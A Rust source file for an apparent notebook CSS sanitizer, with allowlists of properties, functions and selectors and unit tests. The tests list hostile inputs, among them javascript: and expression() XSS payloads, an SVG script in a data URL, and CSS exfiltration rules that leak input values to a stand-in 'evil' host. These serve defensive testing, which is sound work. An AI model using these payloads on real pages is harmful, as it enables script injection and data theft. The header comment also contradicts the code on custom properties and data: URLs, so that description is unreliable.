/*! CSS declarations checked with a real CSS parser (cssparser), property by property.

A declaration is kept only when its property is on the allowlist and every token of its value
is inert: identifiers, numbers, dimensions, colours, strings, commas and a short list of
functions (`rgb()`, `calc()`, gradients, transforms). `url()` is allowed only for in-document
`#fragment` references (SVG `clip-path: url(#p1)`); `expression()`, `@import`, `behavior`,
`-moz-binding` and custom properties can never pass. Escapes are decoded by the tokenizer
before the check, so `expr\65ssion(` is seen as `expression(`. */

use cssparser::{
    AtRuleParser, CowRcStr, DeclarationParser, ParseError, Parser, ParserInput, ParserState,
    QualifiedRuleParser, RuleBodyItemParser, RuleBodyParser, StyleSheetParser, Token,
};

/// Properties whose values may be kept (lower case).
pub(crate) const ALLOWED_PROPERTIES: &[&str] = &[
    "align-content",
    "align-items",
    "align-self",
    "background",
    "background-color",
    "background-image",
    "background-position",
    "background-repeat",
    "background-size",
    "border",
    "border-bottom",
    "border-bottom-color",
    "border-bottom-left-radius",
    "border-bottom-right-radius",
    "border-bottom-style",
    "border-bottom-width",
    "border-collapse",
    "border-color",
    "border-left",
    "border-left-color",
    "border-left-style",
    "border-left-width",
    "border-radius",
    "border-right",
    "border-right-color",
    "border-right-style",
    "border-right-width",
    "border-spacing",
    "border-style",
    "border-top",
    "border-top-color",
    "border-top-left-radius",
    "border-top-right-radius",
    "border-top-style",
    "border-top-width",
    "border-width",
    "bottom",
    "box-shadow",
    "box-sizing",
    "caption-side",
    "clear",
    "clip-path",
    "clip-rule",
    "color",
    "column-gap",
    "content",
    "cursor",
    "dominant-baseline",
    "direction",
    "display",
    "empty-cells",
    "fill",
    "fill-opacity",
    "fill-rule",
    "flex",
    "flex-basis",
    "flex-direction",
    "flex-flow",
    "flex-grow",
    "flex-shrink",
    "flex-wrap",
    "flood-color",
    "flood-opacity",
    "float",
    "font",
    "font-family",
    "font-size",
    "font-stretch",
    "font-style",
    "font-variant",
    "font-weight",
    "gap",
    "grid-area",
    "grid-column",
    "grid-gap",
    "grid-row",
    "grid-template-columns",
    "grid-template-rows",
    "height",
    "inset",
    "justify-content",
    "justify-items",
    "left",
    "letter-spacing",
    "line-height",
    "list-style",
    "list-style-position",
    "list-style-type",
    "margin",
    "margin-bottom",
    "margin-left",
    "margin-right",
    "margin-top",
    "marker",
    "marker-end",
    "marker-mid",
    "marker-start",
    "mask",
    "max-height",
    "max-width",
    "min-height",
    "min-width",
    "opacity",
    "outline",
    "outline-color",
    "outline-style",
    "outline-width",
    "overflow",
    "overflow-wrap",
    "overflow-x",
    "overflow-y",
    "padding",
    "padding-bottom",
    "padding-left",
    "padding-right",
    "padding-top",
    "page-break-after",
    "page-break-before",
    "page-break-inside",
    "break-after",
    "break-before",
    "break-inside",
    "paint-order",
    "pointer-events",
    "position",
    "right",
    "row-gap",
    "shape-rendering",
    "stop-color",
    "stop-opacity",
    "stroke",
    "stroke-dasharray",
    "stroke-dashoffset",
    "stroke-linecap",
    "stroke-linejoin",
    "stroke-miterlimit",
    "stroke-opacity",
    "stroke-width",
    "table-layout",
    "text-align",
    "text-anchor",
    "text-decoration",
    "text-decoration-color",
    "text-decoration-line",
    "text-decoration-style",
    "text-indent",
    "text-overflow",
    "text-rendering",
    "text-shadow",
    "text-transform",
    "top",
    "transform",
    "transform-origin",
    "transition",
    "transition-delay",
    "transition-duration",
    "transition-property",
    "transition-timing-function",
    "unicode-bidi",
    "vertical-align",
    "vector-effect",
    "visibility",
    "white-space",
    "width",
    "word-break",
    "word-spacing",
    "word-wrap",
    "user-select",
    "-moz-user-select",
    "-ms-user-select",
    "-webkit-user-select",
    "z-index",
];

/// Functions allowed in values (lower case); their arguments are checked the same way.
const ALLOWED_FUNCTIONS: &[&str] = &[
    "calc",
    "cubic-bezier",
    "clamp",
    "hsl",
    "hsla",
    "hwb",
    "lab",
    "lch",
    "linear-gradient",
    "matrix",
    "max",
    "min",
    "oklab",
    "oklch",
    "radial-gradient",
    "repeating-linear-gradient",
    "repeating-radial-gradient",
    "rgb",
    "rgba",
    "rotate",
    "scale",
    "scalex",
    "scaley",
    "skew",
    "skewx",
    "skewy",
    "translate",
    "translatex",
    "translatey",
    "var",
];

/// The outcome of checking a declaration list.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct Declarations {
    /// The allowed declarations, re-serialized as `name: value` joined by `; `.
    pub kept: String,
    /// The declarations that were dropped, as written (trimmed).
    pub removed: Vec<String>,
}

impl Declarations {
    /// True when nothing was dropped.
    pub fn is_clean(&self) -> bool {
        self.removed.is_empty()
    }
}

/// Checks a declaration list (a `style` attribute value, or the body of a rule).
pub fn check_declarations(css: &str) -> Declarations {
    let mut input = ParserInput::new(css);
    let mut parser = Parser::new(&mut input);
    let mut out = Declarations::default();
    let mut checker = DeclarationChecker;
    let mut kept: Vec<String> = Vec::new();
    let mut body = RuleBodyParser::new(&mut parser, &mut checker);
    for item in body.by_ref() {
        match item {
            Ok(Some(decl)) => kept.push(decl),
            Ok(None) => {}
            Err((_, text)) => {
                let text = text.trim();
                if !text.is_empty() {
                    out.removed.push(text.to_owned());
                }
            }
        }
    }
    out.kept = kept.join("; ");
    out
}

struct DeclarationChecker;

impl<'i> DeclarationParser<'i> for DeclarationChecker {
    type Declaration = Option<String>;
    type Error = ();

    fn parse_value<'t>(
        &mut self,
        name: CowRcStr<'i>,
        input: &mut Parser<'i, 't>,
        _start: &ParserState,
    ) -> Result<Self::Declaration, ParseError<'i, ()>> {
        // Custom properties are allowed: their values pass the same token check, so
        // `var(--x)` can only ever substitute inert tokens.
        let custom = name.starts_with("--") && name.len() > 2;
        let lower = if custom {
            name.to_string()
        } else {
            name.to_ascii_lowercase()
        };
        if !custom && !ALLOWED_PROPERTIES.contains(&lower.as_str()) {
            return Err(input.new_custom_error(()));
        }
        let start = input.position();
        check_value(input)?;
        let value = input.slice_from(start).trim().to_owned();
        if value.is_empty() || !value_is_allowed_for(&lower, &value) {
            return Err(input.new_custom_error(()));
        }
        Ok(Some(format!("{lower}: {value}")))
    }
}

impl<'i> AtRuleParser<'i> for DeclarationChecker {
    type Prelude = ();
    type AtRule = Option<String>;
    type Error = ();
}

impl<'i> QualifiedRuleParser<'i> for DeclarationChecker {
    type Prelude = ();
    type QualifiedRule = Option<String>;
    type Error = ();
}

impl<'i> RuleBodyItemParser<'i, Option<String>, ()> for DeclarationChecker {
    fn parse_declarations(&self) -> bool {
        true
    }
    fn parse_qualified(&self) -> bool {
        false
    }
}

/// Value-level restrictions for properties that are safe only with some values.
fn value_is_allowed_for(property: &str, value: &str) -> bool {
    match property {
        // Fixed or sticky boxes can cover the notebook interface.
        "position" => matches!(
            value.to_ascii_lowercase().as_str(),
            "static" | "relative" | "inherit" | "initial" | "unset"
        ),
        _ => true,
    }
}

/// Walks every token of a value; any token outside the inert set fails the declaration.
pub(crate) fn check_value<'i>(input: &mut Parser<'i, '_>) -> Result<(), ParseError<'i, ()>> {
    loop {
        let token = match input.next_including_whitespace() {
            Ok(token) => token.clone(),
            Err(_) => return Ok(()),
        };
        match token {
            Token::Ident(_)
            | Token::Hash(_)
            | Token::IDHash(_)
            | Token::QuotedString(_)
            | Token::Number { .. }
            | Token::Percentage { .. }
            | Token::Dimension { .. }
            | Token::WhiteSpace(_)
            | Token::Comma => {}
            Token::Delim('/' | '+' | '-' | '*' | '.' | '%' | '!') => {}
            Token::UnquotedUrl(url) if is_inert_url(&url) => {}
            Token::Function(name) => {
                let name = name.to_ascii_lowercase();
                if name == "url" {
                    input.parse_nested_block(|args| {
                        let ok =
                            matches!(args.next(), Ok(Token::QuotedString(s)) if is_inert_url(s));
                        if ok && args.is_exhausted() {
                            Ok(())
                        } else {
                            Err(args.new_custom_error(()))
                        }
                    })?;
                } else if ALLOWED_FUNCTIONS.contains(&name.as_str()) {
                    input.parse_nested_block(check_value)?;
                } else {
                    return Err(input.new_custom_error(()));
                }
            }
            _ => return Err(input.new_custom_error(())),
        }
    }
}

/// `url()` values that load nothing from elsewhere: in-document `#fragment` references and
/// `data:image/…` (an image context never runs script).
fn is_inert_url(url: &str) -> bool {
    is_fragment_url(url) || {
        // Raster types only: an SVG document referenced from CSS (`filter: url(data:image/
        // svg+xml,…)`) is a resource document whose handling differs between engines.
        let url = url.trim().to_ascii_lowercase();
        ["png", "jpeg", "jpg", "gif", "webp", "bmp", "avif", "x-icon"]
            .iter()
            .any(|t| {
                url.strip_prefix("data:image/")
                    .and_then(|rest| rest.strip_prefix(t))
                    .is_some_and(|rest| rest.starts_with([';', ',']))
            })
    }
}

fn is_fragment_url(url: &str) -> bool {
    let url = url.trim();
    url.starts_with('#')
        && url[1..]
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_.:".contains(c))
}

/// Pseudo-classes and pseudo-elements allowed in selectors (lower case).
const SAFE_PSEUDO: &[&str] = &[
    "active",
    "after",
    "before",
    "checked",
    "disabled",
    "empty",
    "enabled",
    "first-child",
    "first-letter",
    "first-line",
    "first-of-type",
    "focus",
    "focus-visible",
    "focus-within",
    "hover",
    "last-child",
    "last-of-type",
    "link",
    "marker",
    "only-child",
    "only-of-type",
    "placeholder",
    "root",
    "selection",
    "visited",
];

/// Functional pseudo-classes whose argument is a selector list.
const SELECTOR_FUNCTIONS: &[&str] = &["is", "not", "where"];

/// Functional pseudo-classes whose argument is an `An+B` expression.
const NTH_FUNCTIONS: &[&str] = &[
    "nth-child",
    "nth-last-child",
    "nth-last-of-type",
    "nth-of-type",
];

/// How deep `@media` blocks may nest.
const MAX_NESTING: usize = 8;

/// The outcome of checking a style sheet (the text of a `<style>` element).
#[derive(Debug, Default, PartialEq, Eq)]
pub struct Stylesheet {
    /// The allowed rules, re-serialized (one rule per line). Equal to the input's meaning when
    /// [`is_clean`](Self::is_clean); use the original text then.
    pub kept: String,
    /// The rules, at-rules and declarations that were dropped, as written (trimmed).
    pub removed: Vec<String>,
}

impl Stylesheet {
    /// True when nothing was dropped.
    pub fn is_clean(&self) -> bool {
        self.removed.is_empty()
    }
}

/// Checks a whole style sheet: qualified rules whose selectors use only type, class, id,
/// attribute and pseudo-class selectors with combinators, whose declarations pass
/// [`check_declarations`]; `@media` with nested rules. Every other at-rule (`@import`,
/// `@font-face`, `@namespace`, `@keyframes`, …) is removed.
///
/// ```
/// use nbsanitize::sanitize::css::check_stylesheet;
/// let sheet = check_stylesheet("@import 'x.css'; #T_1 td:hover { color: red }");
/// assert!(!sheet.is_clean());
/// assert_eq!(sheet.kept, "#T_1 td:hover { color: red }");
/// ```
pub fn check_stylesheet(css: &str) -> Stylesheet {
    let mut input = ParserInput::new(css);
    let mut parser = Parser::new(&mut input);
    let mut checker = SheetChecker {
        removed: Vec::new(),
        depth: 0,
    };
    let kept = parse_rule_list(&mut parser, &mut checker);
    Stylesheet {
        kept: kept.join("\n"),
        removed: checker.removed,
    }
}

struct SheetChecker {
    removed: Vec<String>,
    depth: usize,
}

fn parse_rule_list<'i>(parser: &mut Parser<'i, '_>, checker: &mut SheetChecker) -> Vec<String> {
    let mut kept = Vec::new();
    let mut errors = Vec::new();
    let mut rules = StyleSheetParser::new(parser, checker);
    for item in rules.by_ref() {
        match item {
            Ok(Some(rule)) => kept.push(rule),
            Ok(None) => {}
            Err((_, text)) => {
                let text = text.trim();
                if !text.is_empty() {
                    errors.push(text.to_owned());
                }
            }
        }
    }
    checker.removed.extend(errors);
    kept
}

impl<'i> QualifiedRuleParser<'i> for SheetChecker {
    /// The selector text, or `None` for a prelude no browser reads as a selector.
    type Prelude = Option<String>;
    type QualifiedRule = Option<String>;
    type Error = ();

    fn parse_prelude<'t>(
        &mut self,
        input: &mut Parser<'i, 't>,
    ) -> Result<Option<String>, ParseError<'i, ()>> {
        let start = input.position();
        let state = input.state();
        if let Err(err) = check_selector_list(input) {
            input.reset(&state);
            return if is_never_a_selector(input) {
                Ok(None)
            } else {
                Err(err)
            };
        }
        let prelude = input.slice_from(start).trim();
        if prelude.is_empty() {
            return Err(input.new_custom_error(()));
        }
        Ok(Some(prelude.to_owned()))
    }

    fn parse_block<'t>(
        &mut self,
        prelude: Option<String>,
        _start: &ParserState,
        input: &mut Parser<'i, 't>,
    ) -> Result<Option<String>, ParseError<'i, ()>> {
        let start = input.position();
        while input.next_including_whitespace_and_comments().is_ok() {}
        let Some(prelude) = prelude else {
            // Browsers drop the whole rule; so do we, without a finding.
            return Ok(None);
        };
        let decls = check_declarations(input.slice_from(start));
        self.removed.extend(
            decls
                .removed
                .into_iter()
                .map(|d| format!("{prelude} {{ {d} }}")),
        );
        if decls.kept.is_empty() {
            return Ok(None);
        }
        Ok(Some(format!("{prelude} {{ {} }}", decls.kept)))
    }
}

/// A rule prelude with a top-level `/` (a `// comment` line, as in several notebooks) is
/// invalid in every browser's selector grammar: the rule is ignored where it stands.
fn is_never_a_selector(input: &mut Parser<'_, '_>) -> bool {
    let mut slash = false;
    while let Ok(token) = input.next_including_whitespace() {
        slash |= matches!(token, Token::Delim('/'));
    }
    slash
}

impl<'i> AtRuleParser<'i> for SheetChecker {
    type Prelude = String;
    type AtRule = Option<String>;
    type Error = ();

    fn parse_prelude<'t>(
        &mut self,
        name: CowRcStr<'i>,
        input: &mut Parser<'i, 't>,
    ) -> Result<String, ParseError<'i, ()>> {
        if !name.eq_ignore_ascii_case("media") || self.depth >= MAX_NESTING {
            return Err(input.new_custom_error(()));
        }
        let start = input.position();
        check_media_query(input)?;
        Ok(input.slice_from(start).trim().to_owned())
    }

    fn parse_block<'t>(
        &mut self,
        prelude: String,
        _start: &ParserState,
        input: &mut Parser<'i, 't>,
    ) -> Result<Option<String>, ParseError<'i, ()>> {
        self.depth += 1;
        let rules = parse_rule_list(input, self);
        self.depth -= 1;
        if rules.is_empty() {
            return Ok(None);
        }
        Ok(Some(format!(
            "@media {prelude} {{\n{}\n}}",
            rules.join("\n")
        )))
    }
}

/// A selector list: compound selectors of type, class, id, attribute and allowed pseudo
/// selectors, joined by descendant/child/sibling combinators and commas.
fn check_selector_list<'i>(input: &mut Parser<'i, '_>) -> Result<(), ParseError<'i, ()>> {
    loop {
        let token = match input.next_including_whitespace() {
            Ok(token) => token.clone(),
            Err(_) => return Ok(()),
        };
        match token {
            Token::Ident(_)
            | Token::IDHash(_)
            | Token::Hash(_)
            | Token::WhiteSpace(_)
            | Token::Comma
            | Token::Delim('.' | '>' | '+' | '~' | '*') => {}
            Token::Colon => check_pseudo(input)?,
            Token::SquareBracketBlock => input.parse_nested_block(check_attribute_selector)?,
            _ => return Err(input.new_custom_error(())),
        }
    }
}

fn check_pseudo<'i>(input: &mut Parser<'i, '_>) -> Result<(), ParseError<'i, ()>> {
    let mut token = input.next_including_whitespace()?.clone();
    if token == Token::Colon {
        token = input.next_including_whitespace()?.clone();
    }
    match token {
        Token::Ident(name) if SAFE_PSEUDO.contains(&name.to_ascii_lowercase().as_str()) => Ok(()),
        Token::Function(name) => {
            let name = name.to_ascii_lowercase();
            if SELECTOR_FUNCTIONS.contains(&name.as_str()) {
                input.parse_nested_block(check_selector_list)
            } else if NTH_FUNCTIONS.contains(&name.as_str()) {
                input.parse_nested_block(|args| {
                    while let Ok(token) = args.next_including_whitespace() {
                        match token {
                            Token::Number { .. }
                            | Token::Dimension { .. }
                            | Token::Ident(_)
                            | Token::WhiteSpace(_)
                            | Token::Delim('+' | '-') => {}
                            _ => return Err(args.new_custom_error(())),
                        }
                    }
                    Ok(())
                })
            } else {
                Err(input.new_custom_error(()))
            }
        }
        _ => Err(input.new_custom_error(())),
    }
}

/// `[name]`, `[name=value]`, `[name~="value" i]` and the other match operators.
fn check_attribute_selector<'i>(input: &mut Parser<'i, '_>) -> Result<(), ParseError<'i, ()>> {
    while let Ok(token) = input.next_including_whitespace() {
        match token {
            Token::Ident(_)
            | Token::QuotedString(_)
            | Token::WhiteSpace(_)
            | Token::Delim('=')
            | Token::IncludeMatch
            | Token::DashMatch
            | Token::PrefixMatch
            | Token::SuffixMatch
            | Token::SubstringMatch => {}
            _ => return Err(input.new_custom_error(())),
        }
    }
    Ok(())
}

/// A media query list: media types, `and`/`not`/`only`, and `(feature: value)` tests.
fn check_media_query<'i>(input: &mut Parser<'i, '_>) -> Result<(), ParseError<'i, ()>> {
    while let Ok(token) = input.next_including_whitespace() {
        match token {
            Token::Ident(_)
            | Token::Number { .. }
            | Token::Dimension { .. }
            | Token::Percentage { .. }
            | Token::WhiteSpace(_)
            | Token::Comma
            | Token::Colon
            | Token::Delim('/') => {}
            Token::ParenthesisBlock => input.parse_nested_block(check_media_query)?,
            _ => return Err(input.new_custom_error(())),
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::{check_declarations, check_stylesheet};

    #[test]
    fn keeps_pandas_styler_sheets() {
        for css in [
            "\n    .dataframe tbody tr th:only-of-type {\n        vertical-align: middle;\n    }\n\n    .dataframe tbody tr th {\n        vertical-align: top;\n    }\n\n    .dataframe thead th {\n        text-align: right;\n    }\n",
            "#T_7c1f8_row0_col0, #T_7c1f8_row1_col1 {\n  background-color: #ffff00;\n  color: #000000;\n}\n#T_7c1f8 th.col_heading.level0:hover { font-weight: bold }",
            "@media (max-width: 600px) and (orientation: landscape) { table[border=\"1\"] > tr:nth-child(2n+1) { color: red } }",
            "a:not(.x):is(.y, #z)::before { color: red }",
            "<!-- td { color: red } -->",
            "// a comment that is not one\n.x { color: red; background: url(javascript:x) }\n.y { color: red }",
        ] {
            let sheet = check_stylesheet(css);
            assert!(sheet.is_clean(), "{css}: {sheet:?}");
        }
    }

    #[test]
    fn removes_unsafe_rules_and_at_rules() {
        for (css, kept) in [
            (
                "@import url(https://evil/x.css); td { color: red }",
                "td { color: red }",
            ),
            (
                "@font-face { font-family: x; src: url(https://evil/f) } td { color: red }",
                "td { color: red }",
            ),
            (
                "@namespace svg url(http://www.w3.org/2000/svg); td { color: red }",
                "td { color: red }",
            ),
            (
                "td { color: red; background: url(https://evil/?leak) }",
                "td { color: red }",
            ),
            (
                "input[value^=a] { background-image: url(https://evil/a) } td { color: red }",
                "td { color: red }",
            ),
            (
                "td { color: red } * { behavior: url(x.htc) }",
                "td { color: red }",
            ),
            (
                "td:has(+ img) { color: red } td { color: red }",
                "td { color: red }",
            ),
            ("td|x { color: red } td { color: red }", "td { color: red }"),
            (
                "@media screen { @import 'x'; td { color: red } }",
                "@media screen {\ntd { color: red }\n}",
            ),
            (
                "@keyframes k { from { color: red } } td { color: red }",
                "td { color: red }",
            ),
            (
                "@media (width < 600px) { td { color: red } } td { color: red }",
                "td { color: red }",
            ),
            (
                "td { color: red; .nested { color: blue } }",
                "td { color: red }",
            ),
        ] {
            let sheet = check_stylesheet(css);
            assert!(!sheet.is_clean(), "{css}");
            assert_eq!(sheet.kept, kept, "{css}");
            let again = check_stylesheet(&sheet.kept);
            assert!(again.is_clean(), "{css} -> {}: {again:?}", sheet.kept);
            assert_eq!(again.kept, sheet.kept);
        }
    }

    #[test]
    fn keeps_pandas_and_matplotlib_styles() {
        for css in [
            "text-align: right;",
            "fill: none; stroke: #1f77b4; stroke-width: 1.5; stroke-linecap: square",
            "background-color: rgba(0, 0, 0, 0.5); font-family: \"DejaVu Sans\", sans-serif",
            "clip-path: url(#p1a2b3c)",
            "background-image: url(data:image/png;base64,iVBORw0KGgo=)",
            "width: calc(100% - 2em) !important",
            "--jp-ui-font-color0: rgba(0, 0, 0, 1); color: var(--jp-ui-font-color0, #000)",
        ] {
            let out = check_declarations(css);
            assert!(out.is_clean(), "{css}: {out:?}");
        }
    }

    #[test]
    fn drops_script_bearing_declarations() {
        for css in [
            "color: red; background: url(javascript:alert(1))",
            "color: red; width: expression(alert(1))",
            "color: red; width: expr\\65ssion(alert(1))",
            "color: red; behavior: url(x.htc)",
            "color: red; -moz-binding: url(x.xml#xss)",
            "color: red; background-image: url('https://evil/')",
            "color: red; background-image: url(data:text/html,x)",
            "color: red; filter: url(\"data:image/svg+xml,<svg><script>alert(1)</script></svg>\")",
            "color: red; background: url(data:image/svg+xml;base64,PHN2Zz4=)",
            "color: red; position: fixed",
            "color: red; --x: url(javascript:alert(1))",
            "color: red; --x: expression(alert(1))",
            "color: red; @import 'x.css'",
        ] {
            let out = check_declarations(css);
            assert!(!out.is_clean(), "{css}");
            assert_eq!(out.kept, "color: red", "{css}");
        }
    }
}
